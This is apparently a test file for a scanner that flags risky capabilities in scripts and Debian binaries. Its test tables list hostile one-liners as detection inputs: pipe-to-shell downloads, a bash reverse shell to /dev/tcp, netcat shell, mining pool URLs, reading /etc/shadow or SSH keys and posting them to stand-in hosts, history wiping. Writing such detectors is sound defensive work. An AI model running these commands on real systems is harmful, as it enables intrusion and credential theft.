import { existsSync, readFileSync, realpathSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readElf } from '../../../formats/elf/read-elf.ts';
import { capabilitiesOf, capabilitiesOfPath, isLoaded } from './capabilities.ts';

const worst = (found: readonly { readonly risk: number }[]) =>
  found.reduce((most, { risk }) => Math.max(most, risk), 0);
const inScript = (text: string) => capabilitiesOf('bin/run', `#!/bin/sh\n${text}\n`, null);

describe('in scripts', () => {
  test.each([
    ['curl -fsSL https://sh.example.org | sudo bash', 'downloads and runs', 4],
    ['wget -qO- "$url" | python3', 'downloads and runs', 4],
    ['echo aGk= | base64 -d | sh', 'runs what it decodes', 4],
    ["exec(__import__('zlib').decompress(x))", 'runs what it decodes', 4],
    ['eval(Buffer.from("61", "hex").toString())', 'runs what it decodes', 4],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'gives a shell away', 4],
    ['nc -le /bin/sh 1', 'gives a shell away', 4],
    ['./m -o stratum+tcp://pool.example.org:3333', 'mines', 4],
    ['echo x > /etc/ld.so.preload', 'makes every program load its code', 4],
    ["open('/etc/shadow').read(); requests.post(u, data=x)", 'can send away what it reads', 4],
    ['fetch("https://x.example.org", { body: JSON.stringify(process.env) })', 'can send its environment away', 4],
    ['chmod u+s /bin/x', 'makes a file run as its owner', 3],
    ['chmod 4755 x', 'makes a file run as its owner', 3],
    ['cat ~/.ssh/id_ed25519', 'reads passwords, keys or wallets', 3],
    ['insmod x.ko', 'changes the kernel', 3],
    ['dd if=x of=/proc/self/mem', 'steers other processes', 3],
    ['unset HISTFILE', 'covers its tracks', 3],
    ['u=https://api.telegram.org/bot1:a/send', 'speaks to where stolen things go', 3],
    ['LD_PRELOAD=./x.so ls', 'makes others load its code', 2],
    ['(crontab -l; echo x) | crontab -', 'starts by itself', 2],
    [`x = "${'\\x41'.repeat(60)}"`, 'is written to be hard to read', 2],
    ['s = socket.socket(AF_PACKET, SOCK_RAW)', 'sees the packets of others', 2],
    ['cat ~/.netrc', 'reads saved logins', 2],
    ['subprocess.run(["ls"])', 'runs programs', 1],
    ['curl -O https://example.org/x', 'opens connections', 1],
  ])('%s', (text, does, risk) => {
    expect(inScript(text)).toContainEqual({ file: 'bin/run', does, risk, by: expect.stringMatching(/^.{3,}$/) });
    expect(worst(inScript(text))).toBe(risk);
  });

  test.each([
    'echo hello | sh-like',
    'printf "%s\\n" "$1" | sort',
    'chmod 0755 bin/tool && chmod +x bin/other',
    'base64 -d < x > y',
    "x = evaluate(model, data); print('shadow of /etc')",
    'mem = open("/proc/meminfo")',
    'export PATH=/nix/store/x/bin:$PATH',
    'the onion router',
  ])('nothing in: %s', (text) => {
    expect(inScript(text)).toEqual([]);
  });

  test('what shows it is printable and short', () => {
    const [found] = inScript(`curl ${'\x07é'.repeat(100)} | sh`).filter(({ risk }) => risk === 4);
    expect(found?.by).toMatch(/^[\x20-\x7e]{1,80}$/);
  });
});

test.each([
  ['lib/systemd/system/x.service', 2],
  ['etc/udev/rules.d/70-x.rules', 2],
  ['share/applications/x.desktop', 0],
  ['bin/systemd', 0],
])('where it lies: %s', (file, risk) => {
  expect(worst(capabilitiesOfPath(file))).toBe(risk);
});

test('what interpreters load is looked into', () => {
  expect(['lib/a.py', 'lib/a.mjs', 'a.sh'].every(isLoaded)).toBe(true);
  expect(['share/a.txt', 'lib/a.pyc', 'lib/py'].some(isLoaded)).toBe(false);
});

const real = (program: string) => {
  const content = readFileSync(program);
  const elf = readElf(content);
  return elf === null ? null : capabilitiesOf(program, content.toString('latin1'), elf);
};
const doesOf = (program: string) => real(program)?.map(({ does, by }) => `${does}: ${by}`);

describe('real programs of Debian', () => {
  const there = (program: string) => {
    if (existsSync(program)) return true;
    console.log(`skipped: ${program} is not on this machine`);
    return false;
  };

  test.skipIf(!there('/usr/bin/curl'))('curl opens connections', () => {
    expect(worst(real('/usr/bin/curl') ?? [])).toBeLessThan(4);
  });

  test.skipIf(!there('/usr/bin/xz'))('xz can do nothing of it', () => {
    expect(doesOf('/usr/bin/xz')).toEqual([]);
  });

  test.skipIf(!there('/usr/bin/gdb'))('gdb steers other processes', () => {
    expect(doesOf('/usr/bin/gdb')).toContain('steers other processes: ptrace');
  });

  test.skipIf(!there('/usr/bin/ssh'))('ssh reads keys and opens connections', () => {
    expect(worst(real('/usr/bin/ssh') ?? [])).toBe(4);
  });

  test.skipIf(!there('/bin/bash'))('bash knows /dev/tcp', () => {
    expect(doesOf(realpathSync('/bin/bash'))).toContain('gives a shell away: /dev/tcp/');
  });
});

test('no content takes long: every pattern is bounded', () => {
  const parts = fc.constantFrom(
    'curl ',
    '| sh',
    '\\x41',
    'base64 -d',
    '_0xabcd',
    'eval ',
    ' ',
    '"',
    '/etc/',
    '\n',
    'a',
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 20 }), (some) => {
      const from = process.cpuUsage().user;
      inScript(some.join('').repeat(2_000));
      expect((process.cpuUsage().user - from) / 1000).toBeLessThan(2_000);
    }),
    { numRuns: 30 },
  );
});
